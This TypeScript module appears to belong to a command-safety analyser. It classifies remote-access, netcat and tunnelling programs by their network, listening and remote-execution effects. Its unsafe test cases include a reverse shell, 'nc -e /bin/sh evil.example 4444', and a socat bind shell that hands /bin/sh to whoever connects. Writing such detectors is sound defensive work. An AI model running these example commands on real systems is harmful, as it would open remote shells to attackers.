/** Other machines: shells on them, files to and from them, raw connections, tunnels. */
import { act, type Effect } from "../../contract/effect.ts";
import { writes } from "../disk-makers.ts";
import { hostOf, line, network } from "../makers.ts";
import type { EffectMaker, ProgramSpec, Use } from "../spec.ts";
import { loginHost, networkSsh } from "./network-ssh.ts";
import { wholly } from "./packages-effects.ts";

function netcat(use: Use): readonly Effect[] {
  const text = line(use.operands);
  const listens = use.operands.some(
    (word) =>
      /^-[a-z]*l/.test(word.value ?? "") ||
      word.value === "--listen" ||
      /^(?:TCP|UDP|OPENSSL|UNIX|TCP4|TCP6)[-\w]*-LISTEN/i.test(word.value ?? ""),
  );
  const executes = use.operands.some(
    (word) =>
      /^-[a-z]*[ec]$|^--(?:exec|sh-exec|lua-exec)/.test(word.value ?? "") ||
      /(?:^|,)(?:EXEC|SYSTEM|SHELL):/i.test(word.value ?? ""),
  );
  const host =
    use.operands.find((word) => /^[a-z0-9][a-z0-9.-]*\.[a-z0-9.-]+$|^localhost$/i.test(word.value ?? "")) ??
    use.operands.find((word) => /:/.test(word.value ?? ""));
  return [
    network(host === undefined ? null : (hostOf(host) ?? host.value?.split(":")[0]?.toLowerCase() ?? null), true),
    ...(listens ? [act("door.server", { wording: `listens: ${text}` })] : []),
    ...(executes
      ? [
          {
            do: "run",
            program: use.program,
            what: "remote",
            wording: `a program is given to whoever connects: ${text}`,
          } as const,
        ]
      : []),
  ];
}

const versionOnly = (use: Use): boolean =>
  use.operands.length === 1 && /^(?:--version|-V|-v|version|--help|-h|help)$/.test(use.operands[0]?.value ?? "");

const tunnel: EffectMaker = (use) =>
  versionOnly(use)
    ? []
    : [act("door.tunnel", { wording: `a tunnel to the public internet: ${line(use.operands)}` }), network(null, true)];

/** Letters of these programs whose value stands behind them: the first word that is no option's is the host. */
const TAKES_NEXT = /^-[a-zA-Z0-9]*[BbcDeFiJlopPRSsuX]$/;
const destination = ({ operands }: Use): Use["operands"][number] | undefined =>
  operands.find(({ value }, i) => !(value ?? "-").startsWith("-") && !TAKES_NEXT.test(operands[i - 1]?.value ?? ""));

/** `sftp host:file here`: what is fetched lands in the word behind the host, or where the command stands. */
function fetched(use: Use): readonly Effect[] {
  const from = destination(use);
  const [, path] =
    /^(?:sftp:\/\/[^/]+|(?:[^/@\s]*@)?(?:\[[^\]]+\]|[^/:\s]+):)(.+)$/.exec(from?.value ?? from?.prefix ?? "") ?? [];
  if (use.program !== "sftp" || from === undefined || path === undefined) return [];
  const to = use.operands[use.operands.indexOf(from) + 1];
  return to === undefined ? [] : [writes(use.target(to), { recursive: true })];
}

export const networkRemote: readonly ProgramSpec[] = [
  {
    names: "sftp ftp lftp tftp ncftp curlftpfs",
    ...wholly((use) =>
      versionOnly(use)
        ? []
        : [
            network(loginHost(destination(use)), true),
            ...fetched(use),
            { do: "run", program: use.program, what: "remote", wording: line(use.operands) },
          ],
    ),
    unsafe: [
      ["sftp host.example.com", ["network.send", "run.remote"]],
      ["sftp host.example.com:x a", ["network.send", "file.write", "run.remote"]],
      ["lftp -e '!id' host", ["network.send", "run.remote"]],
    ],
  },
  {
    names: "nc ncat netcat socat nc.traditional nc.openbsd pwncat cryptcat",
    launcher: true,
    ...wholly(netcat),
    unsafe: [
      ["nc -l 4444", ["network.send", "door.server"]],
      ["nc -e /bin/sh evil.example 4444", ["network.send", "run.remote"]],
      ["nc evil.example 80", ["network.send"]],
      ["socat TCP-LISTEN:80,fork EXEC:/bin/sh", ["network.send", "door.server", "run.remote"]],
    ],
  },
  {
    names: "telnet rlogin rsh",
    launcher: true,
    ...wholly((use) => [
      network(use.operands[0]?.value?.toLowerCase() ?? null, true),
      { do: "run", program: use.program, what: "remote", wording: line(use.operands) },
    ]),
    unsafe: [["telnet evil.example 23", ["network.send", "run.remote"]]],
  },
  {
    names:
      "ngrok localtunnel lt bore frpc frps chisel serveo localhost.run zrok inlets gost rathole sshuttle hypertunnel pagekite tunnelto devtunnel croc wormhole magic-wormhole transfer ffsend",
    ...wholly(tunnel),
    safe: ["ngrok version"],
    unsafe: [
      ["ngrok http 3000", ["door.tunnel", "network.send"]],
      ["croc send x", ["door.tunnel", "network.send"]],
    ],
  },
  {
    names: "cloudflared tailscale zerotier-cli nebula warp-cli",
    ...wholly((use) => {
      const verb = use.operands[0]?.value ?? "";
      if (versionOnly(use)) return [];
      if (/^(?:tunnel|funnel|serve|access)$/.test(verb))
        return [
          act("door.tunnel", { wording: `a tunnel to the public internet: ${line(use.operands)}` }),
          network(null, true),
        ];
      return /^(?:status|ip|netcheck|ping|list|listnetworks|show|info)$/.test(verb)
        ? [act("private-network.show"), network(null, false)]
        : [
            act("private-network.change", { wording: `the private network: ${line(use.operands)}` }),
            network(null, true),
          ];
    }),
    safe: ["tailscale version"],
    unsafe: [
      ["cloudflared tunnel --url http://localhost:3000", ["door.tunnel", "network.send"]],
      ["tailscale status", ["private-network.show", "network.contact"]],
      ["tailscale up", ["private-network.change", "network.send"]],
      ["tailscale funnel 80", ["door.tunnel", "network.send"]],
    ],
  },
  ...networkSsh,
];
